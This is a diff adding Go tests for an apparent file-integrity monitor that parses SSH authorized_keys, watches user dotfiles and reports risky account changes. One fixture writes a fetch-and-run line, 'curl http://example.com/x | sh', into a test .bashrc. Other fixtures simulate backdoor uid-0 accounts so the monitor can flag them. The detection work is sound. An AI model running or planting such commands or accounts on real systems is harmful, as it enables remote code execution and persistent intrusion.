@@ -0,0 +1,199 @@
+package pkg
+
+import (
+	"io/ioutil"
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+
+	"github.com/rs/zerolog"
+	"github.com/spf13/afero"
+)
+
+const (
+	ed25519Key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKttY33/3jNgCAwVuNHgrP8+ck985v/JeHAkNY/ixzmz"
+	ed25519FP  = "SHA256:LuOErMGsBObbDolPvZMcchDf3MtY/rD+c4bnVTlSoGk"
+	ecdsaKey   = "ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBBcDhoZoFw1CsPPMdDnd7S2RwpublJp7WDF/rhAvpD9sHapUSAgZ9UOdNiSHdiAqmsfeVOAKoYMzvMMIP7K2qnQ="
+	ecdsaFP    = "SHA256:HcwPSg3K+/A7c8B7m5MehNtRpMoY9EpRUM/m+rgsSB0"
+	rsaBody    = "AAAAB3NzaC1yc2EAAAADAQABAAAAgQC8s40EtxMhtuekMFeQs+SvHOPmXaFAWjjAt9dHnb2fVMHpgaWnxqf9gp5MfoxTdhtLexE6L/eooSIim7fLSM6giQNuXh3fno/K0UUi5tG0mXanBOCh1QhlChC1GMhU7R5Yj0FC2yKWf9iD7NvBeZz3QZqkmWuNq370XADmXtBvOQ=="
+	rsaFP      = "SHA256:qqb0KOMaWpZJH0hsTrDrQY599Pck7ATul6rh+pcjLPg"
+)
+
+func TestAuthorizedKeys(t *testing.T) {
+	dir, err := ioutil.TempDir("", "bpfink_keys")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(dir)
+	authorized := filepath.Join(dir, "authorized_keys")
+	parse := func(content string) []AuthorizedKey {
+		if err := ioutil.WriteFile(authorized, []byte(content), 0600); err != nil {
+			t.Fatal(err)
+		}
+		return keys(NewFile(func(file *File) {
+			file.Fs, file.Path, file.Logger = afero.NewOsFs(), authorized, zerolog.Nop()
+		}))
+	}
+
+	old := parse("# comment\n" + ed25519Key + " alice@laptop\nssh-rsa " + rsaBody + " bob\nssh-rsa AAAAC3NzaC1lZDI1NTE5 forged\n")
+	want := []AuthorizedKey{
+		{Type: "ssh-ed25519", Fingerprint: ed25519FP, Comment: "alice@laptop"},
+		{Type: "ssh-rsa", Fingerprint: rsaFP, Comment: "bob"},
+	}
+	if !reflect.DeepEqual(old, want) {
+		t.Errorf("keys want: %+v, got: %+v", want, old)
+	}
+
+	new := parse(`command="echo a, b",from="10.0.0.0/8",no-pty ` + ed25519Key + " alice@laptop\n" + ecdsaKey + "\n")
+	if len(new) != 2 || !reflect.DeepEqual(new[0].Options, []string{`command="echo a, b"`, `from="10.0.0.0/8"`, "no-pty"}) ||
+		new[1].Fingerprint != ecdsaFP {
+		t.Errorf("keys want options and an ecdsa key, got: %+v", new)
+	}
+
+	add, del := userDiff(Users{"alice": {Name: "alice", Keys: old}}, Users{"alice": {Name: "alice", Keys: new}})
+	wantChanges := []string{
+		"alice: ecdsa-sha2-nistp256 key " + ecdsaFP + " added",
+		`alice: options of key ` + ed25519FP + ` changed from "" to "command=\"echo a, b\",from=\"10.0.0.0/8\",no-pty"`,
+		"alice: ssh-rsa key " + rsaFP + " removed",
+	}
+	if changes := userChanges(add, del); !reflect.DeepEqual(changes, wantChanges) {
+		t.Errorf("userChanges want: %q, got: %q", wantChanges, changes)
+	}
+}
+
+func TestUsersWatchPaths(t *testing.T) {
+	dir, err := ioutil.TempDir("", "bpfink_users")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(dir)
+	home := filepath.Join(dir, "home", "alice")
+	write := func(name, content string) {
+		if err := os.MkdirAll(filepath.Dir(name), 0700); err != nil {
+			t.Fatal(err)
+		}
+		if err := ioutil.WriteFile(name, []byte(content), 0600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	write(filepath.Join(dir, "passwd"), "alice:x:1000:1000::"+home+":/bin/bash\n"+
+		"daemon:x:1:1::"+filepath.Join(dir, "nonexistent")+":/usr/sbin/nologin\n")
+	write(filepath.Join(dir, "shadow"), "alice:!:18000:0:99999:7:::\ndaemon:*:18000:0:99999:7:::\n")
+	write(filepath.Join(dir, "sshd_config"), "AuthorizedKeysFile .ssh/authorized_keys "+dir+"/keys/%u\n"+
+		"Match Group admins\n\tAuthorizedKeysFile=\"/etc/ssh/keys/%U\"\n")
+	write(filepath.Join(dir, "keys", "alice"), ed25519Key+"\n")
+	write(filepath.Join(home, ".bashrc"), "alias ls='ls --color'\n")
+
+	ul := NewUsersListener(func(l *UsersListener) {
+		l.Fs, l.Passwd, l.Shadow = afero.NewOsFs(), filepath.Join(dir, "passwd"), filepath.Join(dir, "shadow")
+		l.SSHDConfig, l.Dotfiles = filepath.Join(dir, "sshd_config"), []string{".bashrc", "%h/.ssh/rc"}
+	})
+	users, includes, err := ul.parse()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, want := range []string{
+		filepath.Join(dir, "sshd_config"), filepath.Join(home, ".ssh", "authorized_keys"), filepath.Join(dir, "keys", "alice"),
+		"/etc/ssh/keys/1000", filepath.Join(home, ".bashrc"), filepath.Join(home, ".ssh", "rc"),
+	} {
+		if _, ok := Array2Set(ul.Register(includes))[want]; !ok {
+			t.Errorf("watched paths want %s, got: %q", want, includes)
+		}
+	}
+	// system accounts only have the paths of existing directories watched
+	for _, path := range includes {
+		if strings.HasPrefix(path, filepath.Join(dir, "nonexistent")) {
+			t.Errorf("watched paths want no path of daemon, got: %s", path)
+		}
+	}
+	if _, ok := Array2Set(includes)[filepath.Join(dir, "keys", "daemon")]; !ok {
+		t.Errorf("watched paths want the keys of daemon in an existing directory, got: %q", includes)
+	}
+	alice := users["alice"]
+	if alice == nil || len(alice.Keys) != 1 || alice.Keys[0].Fingerprint != ed25519FP || len(alice.Dotfiles) != 1 {
+		t.Fatalf("want alice with a key and a dotfile, got: %+v", alice)
+	}
+
+	write(filepath.Join(home, ".bashrc"), "curl http://example.com/x | sh\n")
+	write(filepath.Join(home, ".ssh", "rc"), "true\n")
+	next, _, err := ul.parse()
+	if err != nil {
+		t.Fatal(err)
+	}
+	wantChanges := []string{
+		"alice: " + filepath.Join(home, ".bashrc") + " modified",
+		"alice: " + filepath.Join(home, ".ssh", "rc") + " created",
+	}
+	if changes := userChanges(userDiff(users, next)); !reflect.DeepEqual(changes, wantChanges) {
+		t.Errorf("userChanges want: %q, got: %q", wantChanges, changes)
+	}
+}
+
+func TestUserFindings(t *testing.T) {
+	dir, err := ioutil.TempDir("", "bpfink_accounts")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(dir)
+	ul := NewUsersListener(func(l *UsersListener) {
+		l.Fs, l.Passwd, l.Shadow = afero.NewOsFs(), filepath.Join(dir, "passwd"), filepath.Join(dir, "shadow")
+	})
+	parse := func(passwd, shadow string) Users {
+		if err := ioutil.WriteFile(ul.Passwd, []byte(passwd), 0600); err != nil {
+			t.Fatal(err)
+		}
+		if err := ioutil.WriteFile(ul.Shadow, []byte(shadow), 0600); err != nil {
+			t.Fatal(err)
+		}
+		users, _, err := ul.parse()
+		if err != nil {
+			t.Fatal(err)
+		}
+		return users
+	}
+
+	old := parse("root:x:0:0:root:/root:/bin/bash\n"+
+		"daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"+
+		"alice:x:1000:1000::/home/alice:/bin/bash\n"+
+		"bob:x:1001:1001::/home/bob:/bin/bash\n",
+		"root:$6$salt$roothash:18000:0:99999:7:::\n"+
+			"daemon:*:18000:0:99999:7:::\n"+
+			"alice:!$6$salt$alicehash:18000:0:99999:7:::\n"+
+			"bob:$6$salt$bobhash:18000:0:99999:7:::\n")
+	if daemon := old["daemon"]; daemon == nil || daemon.PasswordState != PasswordDisabled {
+		t.Fatalf("want nologin accounts tracked, got: %+v", daemon)
+	}
+	if alice := old["alice"]; alice.PasswordState != PasswordLocked || alice.Password != MaskLeft("$6$salt$alicehash") {
+		t.Errorf("want alice locked, got: %+v", alice)
+	}
+
+	new := parse("root:x:0:0:root:/root:/bin/bash\n"+
+		"daemon:x:0:1:daemon:/usr/sbin:/bin/sh\n"+
+		"alice:x:1000:1000::/home/alice:/bin/bash\n"+
+		"bob:x:1001:1001::/home/bob:/bin/bash\n"+
+		"toor:x:0:0::/root:/bin/bash\n",
+		"root:$6$salt$roothash:18000:0:99999:7:::\n"+
+			"daemon:*:18000:0:99999:7:::\n"+
+			"alice:$6$salt$alicehash:18000:0:99999:7::20000:\n"+
+			"bob::18000:0:99999:7:::\n"+
+			"toor:$6$salt$toorhash:18000:0:99999:7:::\n")
+	want := []string{
+		"alice: account expiration changed ( to 20000)",
+		"alice: account unlocked",
+		"bob: password removed",
+		"daemon: new uid-0 account",
+		"daemon: shell enabled (/usr/sbin/nologin to /bin/sh)",
+		"daemon: uid changed (1 to 0)",
+		"toor: account added (uid 0, shell /bin/bash, password set)",
+		"toor: new uid-0 account",
+	}
+	var got []string
+	for _, finding := range userFindings(userDiff(old, new)) {
+		got = append(got, finding.String())
+	}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("findings want: %q, got: %q", want, got)
+	}
+}